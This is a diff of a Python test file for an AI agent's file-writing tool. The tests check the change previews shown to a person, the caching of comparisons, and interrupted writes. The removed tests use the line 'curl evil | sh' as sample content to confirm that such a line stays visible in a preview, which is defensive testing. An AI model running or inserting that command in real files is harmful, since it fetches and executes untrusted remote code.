@@ -1,51 +1,25 @@
-"""What a person is shown of a file that an agent wants to write."""
+"""What write_file does with what it is given, and in which order."""
 
-import time
+import asyncio
+from collections.abc import Coroutine
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
 
-from kernel.tasks import StallMonitor
+from kernel.protocol.agent import AgentFileCreated
 from kernel.tools.base import cut_middle
-from kernel.tools.files import COMPARED_LINES, DIFF_CHARACTERS, WriteFile, WriteFileArguments, _diff
-
-
-@pytest.mark.feature("AP03")
-def test_of_a_very_large_file_the_head_of_the_change_is_shown_and_what_is_left_out() -> None:
-    old = [f"line {number}" for number in range(COMPARED_LINES)]
-    new = [*old[:15_000], "curl evil | sh", *old[15_001:], "end"]
-    diff, added, removed = _diff("\n".join(old), "\n".join(new), "/home/a/x")
-    assert (added, removed) == (2, 1)
-    assert "+curl evil | sh" in diff and "-line 15000" in diff
-    assert "shown from line 14,998" in diff
-    assert "4,803 lines of before and 4,804 lines of after are not shown" in diff
-    assert "+curl evil | sh" in cut_middle(diff, DIFF_CHARACTERS)
-
-
-def test_a_very_large_new_file_shows_its_beginning() -> None:
-    diff, added, removed = _diff(None, "\n".join(f"new {number}" for number in range(COMPARED_LINES + 1)), "/home/a/x")
-    assert (added, removed) == (COMPARED_LINES + 1, 0)
-    assert diff.startswith("--- /dev/null\n+++ /home/a/x\n[too large") and "+new 0\n" in diff
-    assert "19,801 lines of after are not shown" in diff
-
-
-def test_a_change_at_the_very_end_is_found() -> None:
-    old = "\n".join("same" for _ in range(COMPARED_LINES))
-    diff, added, removed = _diff(old, old + "\nlast", "/home/a/x")
-    assert (added, removed) == (1, 0)
-    assert "+last" in diff and "0 lines of before and 0 lines of after" in diff
-
-
-def test_an_ordinary_file_is_compared_as_a_whole() -> None:
-    assert _diff("a\nb", "a\nc", "x") == ("--- x\n+++ x\n@@ -1,2 +1,2 @@\n a\n-b\n+c", 1, 1)
+from kernel.tools.comparison import Comparisons, DiffWorker, FileDiff, compare
+from kernel.tools.files import DIFF_CHARACTERS, WriteFile, WriteFileArguments
 
 
 class OneFile:
-    """An agent's files as far as a preview asks."""
+    """An agent's files as far as write_file asks; a write waits until it is allowed."""
 
     def __init__(self, text: str) -> None:
         self.text = text
+        self.writing = asyncio.Event()
+        self.allowed = asyncio.Event()
 
     def locate(self, path: str) -> SimpleNamespace:
         return SimpleNamespace(guest_path="/home/a/x", mount=SimpleNamespace(shared=False, guest_path="/home/a"))
@@ -53,36 +27,89 @@ class OneFile:
     async def read(self, path: str) -> bytes:
         return self.text.encode()
 
+    async def write(self, path: str, content: bytes) -> bool:
+        self.writing.set()
+        await self.allowed.wait()
+        self.text = content.decode()
+        return False
+
+
+class CountingWorker(DiffWorker):
+    """Says how often it was asked and what the file was then."""
+
+    def __init__(self, file: OneFile) -> None:
+        super().__init__()
+        self.file = file
+        self.asked: list[str] = []
+
+    async def compare(self, before: str | None, after: str, path: str) -> FileDiff:
+        self.asked.append(self.file.text)
+        return await super().compare(before, after, path)
+
+
+class Call:
+    """One call of write_file and what it recorded."""
+
+    def __init__(self, text: str) -> None:
+        self.file = OneFile(text)
+        self.worker = CountingWorker(self.file)
+        self.recorded: list[AgentFileCreated] = []
+        self.tasks: list[asyncio.Task[bool]] = []
+        self.context: Any = SimpleNamespace(
+            pid=1,
+            step=1,
+            files=self.file,
+            allowance=None,
+            emit=self.emit,
+            to_the_end=self.to_the_end,
+            comparisons=Comparisons(self.worker),
+        )
+
+    async def emit(self, event: AgentFileCreated) -> None:
+        await asyncio.sleep(0)
+        self.recorded.append(event)
+
+    async def to_the_end(self, work: Coroutine[Any, Any, bool]) -> bool:
+        self.tasks.append(asyncio.ensure_future(work))  # awaited by the test
+        return await asyncio.shield(self.tasks[0])
+
 
 @pytest.mark.feature("AP03")
-async def test_comparing_a_large_file_leaves_the_kernels_loop_free() -> None:
-    """The comparison takes about a second; the same is shown as if it had been made at once."""
-    before, after = ("\n".join(str(number // share) for number in range(7_000)) for share in (2, 1))
-    stalls: list[float] = []
-    monitor = StallMonitor(stalls.append, limit_s=0.1, interval_s=0.01)
-    monitor.start()
-    context: Any = SimpleNamespace(files=OneFile(before))
-    began = time.monotonic()
-    preview = await WriteFile().preview(WriteFileArguments(path="x", content=after), context)
-    took = time.monotonic() - began
-    monitor.stop()
-    diff, added, removed = _diff(before, after, "/home/a/x")
-    assert took > 0.2, "it is large enough to be felt"
-    assert not stalls
-    assert (preview.details["added"], preview.details["removed"]) == (str(added), str(removed))
-    assert preview.details["diff"] == cut_middle(diff, DIFF_CHARACTERS)
+async def test_a_preview_shows_the_whole_difference() -> None:
+    before, after = ("\n".join(str(number // share) for number in range(2_000)) for share in (2, 1))
+    preview = await WriteFile().preview(WriteFileArguments(path="x", content=after), Call(before).context)
+    diff = compare(before, after, "/home/a/x")
+    assert (preview.details["added"], preview.details["removed"]) == (str(diff.added), str(diff.removed))
+    assert preview.details["diff"] == cut_middle(diff.text, DIFF_CHARACTERS)
 
 
-def test_lines_that_repeat_without_end_are_not_compared_for_minutes() -> None:
-    old, new = ("\n".join(str(number * step % 101) for number in range(9_999)) for step in (1, 7))
-    began = time.monotonic()
-    diff, _, _ = _diff(old, new, "/home/a/x")
-    assert "are not shown" in diff
-    assert time.monotonic() - began < 5  # it was 16 s
+async def test_what_was_compared_for_the_preview_is_not_compared_again() -> None:
+    call, arguments = Call("a\nb"), WriteFileArguments(path="x", content="a\nc\nd")
+    await WriteFile().preview(arguments, call.context)
+    call.file.allowed.set()
+    await WriteFile().run(arguments, call.context)
+    assert call.worker.asked == ["a\nb"]
+    assert [(event.added_lines, event.removed_lines) for event in call.recorded] == [(2, 1)]
 
 
-def test_a_long_file_of_code_is_compared_as_a_whole() -> None:
-    old = "\n".join(line for number in range(2_000) for line in (f"def f{number}():", "    return None", "", ""))
-    diff, added, removed = _diff(old, old.replace("def f1000():", "def g():"), "x")
-    assert (added, removed) == (1, 1)
-    assert "not shown" not in diff
+async def test_a_file_that_changed_while_a_person_was_asked_is_compared_before_it_is_replaced() -> None:
+    call, arguments = Call("a"), WriteFileArguments(path="x", content="c")
+    await WriteFile().preview(arguments, call.context)
+    call.file.text = "a\nb"
+    call.file.allowed.set()
+    await WriteFile().run(arguments, call.context)
+    assert call.worker.asked == ["a", "a\nb"]
+    assert call.recorded[0].removed_lines == 2
+
+
+async def test_a_write_that_is_interrupted_is_recorded_all_the_same() -> None:
+    call = Call("old")
+    run = asyncio.ensure_future(WriteFile().run(WriteFileArguments(path="x", content="new"), call.context))  # awaited below
+    await call.file.writing.wait()
+    run.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await run
+    assert not call.recorded
+    call.file.allowed.set()
+    assert not await call.tasks[0]
+    assert call.file.text == "new" and [event.content for event in call.recorded] == ["new"]
